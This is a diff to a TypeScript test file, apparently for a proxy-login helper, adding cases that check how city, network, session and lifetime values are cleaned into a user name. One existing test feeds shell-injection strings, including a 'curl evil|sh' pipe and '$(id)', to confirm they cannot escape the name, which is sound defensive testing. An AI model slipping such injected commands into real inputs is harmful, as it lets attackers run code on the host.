@@ -31,6 +31,25 @@ test('special characters are encoded in URLs only', () => {
   expect(plain!.text).toBe('h.example:1:u:p@')
 })
 
+test.each([
+  ['a city in other letters', { city: '東京' }, 'U'],
+  ['a city of which a letter would be lost', { city: 'Łódź' }, 'U'],
+  ['a city with an apostrophe and a hyphen', { city: "Val-d'Or" }, 'U-city-valdor'],
+  ['a city of signs alone', { city: '--' }, 'U'],
+  ['a network in words', { asn: 'abc' }, 'U'],
+  ['a network with its letters', { asn: 'AS64500' }, 'U-asn-64500'],
+  ['a session of signs alone, and so its lifetime', { session: '--', lifetime: '5' }, 'U'],
+  ['a session that is too long', { session: 'a'.repeat(40) }, `U-session-${'a'.repeat(32)}`],
+  ['a lifetime with a fraction', { session: 's', lifetime: '1.5' }, 'U-session-s-lifetime-1'],
+  ['a lifetime below the bound', { session: 's', lifetime: '0.5' }, 'U-session-s-lifetime-1'],
+  ['a lifetime in words', { session: 's', lifetime: 'long' }, 'U-session-s'],
+  ['a lifetime of blanks', { session: 's', lifetime: ' ' }, 'U-session-s'],
+  ['a lifetime without end', { session: 's', lifetime: 'Infinity' }, 'U-session-s'],
+  ['a country that is no code', { country: 'Japan' }, 'U'],
+])('%s', (_name, exit, name) => {
+  expect(proxyUserName('U', exit)).toBe(name)
+})
+
 test('the name of a city loses its accents, not its letters', () => {
   expect(proxyUserName('u', { country: 'BR', city: 'São Paulo' })).toBe('u-country-br-city-saopaulo')
 })
@@ -42,5 +61,5 @@ test('curl is given a login that it decodes and that the shell leaves alone', ()
 
 test.each(['us"; curl evil|sh; echo "', '$(id)', '`id`', "us'", 'us\nid', 'a\\b'])('%j can not leave the user name', (typed) => {
   const name = proxyUserName('U', { country: typed, city: typed, asn: typed, session: typed, lifetime: typed })
-  expect(name).toMatch(/^U(-[a-z]+(-[A-Za-z0-9]*)?)*$/)
+  expect(name).toMatch(/^U(-[a-z]+-[A-Za-z0-9]+)*$/)
 })
